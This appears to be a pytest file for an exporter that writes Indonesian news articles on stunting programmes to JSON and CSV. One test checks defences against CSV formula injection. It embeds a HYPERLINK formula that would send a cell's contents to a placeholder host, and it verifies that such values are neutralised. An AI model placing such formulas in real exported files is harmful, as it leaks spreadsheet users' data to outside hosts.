"""The data export on its own: the shape export.md promises, written in chunks."""
from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

from generator import export

SIGI = ("Sigi - Pemerintah Kabupaten Sigi menyalurkan PMT bagi 120 balita stunting. Prevalensi stunting di Kabupaten "
        "Sigi turun menjadi 12,4 persen pada 2024. Dinas Kesehatan Sigi menyiapkan anggaran Rp1,5 miliar.\n")
KUKAR = "Tenggarong - Pemkab Kutai Kartanegara menggelar audit kasus stunting bersama akademisi.\n"


def _doc(articles, **options) -> dict:
    return json.loads(b"".join(export.articles_json(articles, **options)))


def test_the_json_has_the_promised_shape(extract):
    a = extract(SIGI, "b.txt")
    doc = _doc([a, extract(KUKAR, "a.txt")])
    assert doc["schema_version"] == 1
    assert [r["id"] for r in doc["articles"]] == ["a", "b"]  # sorted by id
    record = doc["articles"][1]
    for field in ("id", "title", "date", "outlet", "dateline", "provinces", "regencies", "programmes", "actor_types",
                  "actors", "target_groups", "relevance", "relevant", "figures", "page"):
        assert field in record, field
    assert record["provinces"] == [{"code": "72", "name": "Sulawesi Tengah"}]
    assert record["regencies"][0]["code"] == "72.10"
    assert record["relevant"] is (record["relevance"] == "effort")
    assert record["page"] == "artikel/b/"
    kinds = {(f["kind"], f["unit"]) for f in record["figures"]}
    assert ("prevalence", "percent") in kinds and ("budget", "IDR") in kinds
    prevalence = next(f for f in record["figures"] if f["kind"] == "prevalence")
    assert (prevalence["value"], prevalence["year"], prevalence["scope"]) == (12.4, 2024, "72.10")


def test_chunks_are_what_json_dumps_would_write(extract):
    articles = [extract(SIGI, "b.txt"), extract(KUKAR, "a.txt")]
    written = b"".join(export.articles_json(articles)).decode("utf-8")
    doc = json.loads(written)
    assert written == json.dumps(doc, ensure_ascii=False, indent=1) + "\n"
    assert b"".join(export.articles_json([])) == b'{\n "schema_version": 1,\n "articles": []\n}\n'


def test_records_are_reused_by_digest_and_refreshed(extract):
    a = extract(SIGI, "a.txt")
    records: dict[str, str] = {}
    first = b"".join(export.articles_json([a], records, {"a": "d1"}))
    assert set(records) == {"d1"}
    # A remembered record is written as remembered: the digest says the article is the same.
    records["d1"] = records["d1"].replace("Sigi", "SIGI")
    assert b"SIGI" in b"".join(export.articles_json([a], records, {"a": "d1"}))
    # A new digest: the record is made again, and the old one forgotten.
    assert b"".join(export.articles_json([a], records, {"a": "d2"})) == first
    assert set(records) == {"d2"}


def test_an_article_whose_record_fails_is_still_listed(extract):
    broken = replace(extract(SIGI, "a.txt"), figures=(object(),))
    (record,) = _doc([broken])["articles"]
    assert record["id"] == "a" and record["source_file"] == "a.txt" and "export_error" in record


def test_csv_tables_open_in_spreadsheets(extract):
    articles = [extract(SIGI, "a.txt"), extract(KUKAR, "b.txt")]
    table = export.articles_csv(articles)
    assert table.startswith("\ufeff".encode("utf-8"))
    rows = list(csv.DictReader(io.StringIO(table.decode("utf-8-sig"))))
    assert [r["id"] for r in rows] == ["a", "b"]
    assert rows[0]["province_codes"] == "72" and rows[0]["relevant"] == "true"
    figures = list(csv.DictReader(io.StringIO(export.figures_csv(articles).decode("utf-8-sig"))))
    assert {r["article_id"] for r in figures} == {"a"}
    assert any(r["kind"] == "budget" and float(r["value"]) == 1_500_000_000 for r in figures)


def test_a_formula_in_a_title_outlet_or_actor_is_text_in_the_csv(build_kb):
    """A seed (from anyone's pull request) whose title, outlet or actor starts like a
    spreadsheet formula: the built data/*.csv shows the text, quoted so that no
    spreadsheet runs it; numbers stay numbers; the JSON keeps the value as written."""
    formula = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'
    seed = ("---\n"
            f"title: '{formula.replace(chr(39), chr(39) * 2)}'\n"
            "outlet: '+62 Berita'\n"
            "actors:\n  - name: '@Dinkes Sigi'\n    type: pemerintah-kabupaten-kota\n"
            "---\n" + SIGI)
    output, _, data = build_kb({"a.txt": seed, "b.txt": "-" + KUKAR})
    assert data["articles"][0]["title"] == formula  # the data keeps what the curator wrote
    rows = list(csv.DictReader(io.StringIO((output / "data" / "articles.csv").read_text(encoding="utf-8-sig"))))
    by_id = {r["id"]: r for r in rows}
    assert by_id["a"]["title"] == "'" + formula
    assert by_id["a"]["outlet"] == "'+62 Berita"
    assert by_id["a"]["actors"] == "'@Dinkes Sigi"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    figures = list(csv.DictReader(io.StringIO((output / "data" / "figures.csv").read_text(encoding="utf-8-sig"))))
    assert any(r["kind"] == "budget" and float(r["value"]) == 1_500_000_000 for r in figures)  # still a number
    assert all(not r["value"].startswith("'") for r in figures)
    for cell in ("-1", "@x", "\tx", "\rx", "+x"):
        assert export.spreadsheet_safe(cell) == "'" + cell
    assert export.spreadsheet_safe(-1.5) == -1.5 and export.spreadsheet_safe("Kader") == "Kader"
